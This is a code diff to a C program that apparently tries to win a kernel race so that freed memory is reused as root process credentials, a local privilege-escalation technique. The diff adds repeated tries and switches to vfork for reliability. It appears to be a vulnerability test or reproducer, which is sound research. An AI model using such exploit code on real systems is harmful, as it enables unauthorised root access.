@@ -18,9 +18,10 @@
 #define CANDIDATES	16
 #define PROGRAMS	16
 #define PROGRAM_S	60
-#define ROUNDS		24
+#define ROUNDS		12
+#define TRIES		4
 
-/* Shared by all candidates. */
+/* Shared by all candidates of a try. */
 struct prize {
 	int ready;
 	bool claimed, won;
@@ -132,14 +133,19 @@ static noreturn void be_a_candidate(const char *path, volatile struct prize *pri
 
 /*
  * They need to do nothing but to have credentials, until nobody looks at those
- * any more: the kernel crashes if it frees them meanwhile.
+ * any more: the kernel crashes if it frees them meanwhile. vfork() returns when
+ * a program runs, however slow the machine.
  */
 static void run_programs_of_root(void)
 {
+	pid_t pid;
 	int i;
 
 	for (i = 0; i < PROGRAMS; i++) {
-		if (fork_or_die())
+		pid = vfork();
+		if (pid < 0)
+			die_errno("vfork");
+		if (pid)
 			continue;
 		execl(ROOT_PROGRAM, ROOT_PROGRAM, NULL);
 		_exit(1);
@@ -159,25 +165,16 @@ static int candidate_ended(const pid_t candidates[CANDIDATES])
 	return 0;
 }
 
-int main(int argc, char **argv)
+/* How the first candidate ended that did, or 0 if none did. */
+static int try_candidates(const char *path, volatile struct prize *prize)
 {
 	pid_t candidates[CANDIDATES];
-	volatile struct prize *prize;
 	int i, how = 0;
 
-	if (!geteuid()) {
-		sleep(PROGRAM_S);
-		return 0;
-	}
-
-	prize = mmap(NULL, page_size(), PROT_READ | PROT_WRITE,
-		     MAP_SHARED | MAP_ANONYMOUS, -1, 0);
-	if (prize == MAP_FAILED)
-		die_errno("mapping a page");
 	for (i = 0; i < CANDIDATES; i++) {
 		candidates[i] = fork_or_die();
 		if (!candidates[i])
-			be_a_candidate(argc > 1 ? argv[1] : "", prize);
+			be_a_candidate(path, prize);
 	}
 	for (i = 0; i < ROUNDS && !how && !prize->won; i++) {
 		nap(100);
@@ -186,9 +183,31 @@ int main(int argc, char **argv)
 		how = candidate_ended(candidates);
 	}
 	prize->over = true;
+	return how;
+}
+
+int main(int argc, char **argv)
+{
+	volatile struct prize *prizes;
+	bool won = false;
+	int i, how = 0;
+
+	if (!geteuid()) {
+		sleep(PROGRAM_S);
+		return 0;
+	}
+
+	prizes = mmap(NULL, page_size(), PROT_READ | PROT_WRITE,
+		      MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	if (prizes == MAP_FAILED)
+		die_errno("mapping a page");
+	for (i = 0; i < TRIES && !how && !won; i++) {
+		how = try_candidates(argc > 1 ? argv[1] : "", &prizes[i]);
+		won = prizes[i].won;
+	}
 	if (how == EXIT_OUT_OF_REACH)
 		out_of_reach("the credentials are in use, whatever their count says");
-	if (!prize->won)
+	if (!won)
 		die("the memory did not become credentials of root");
 	return 0;
 }
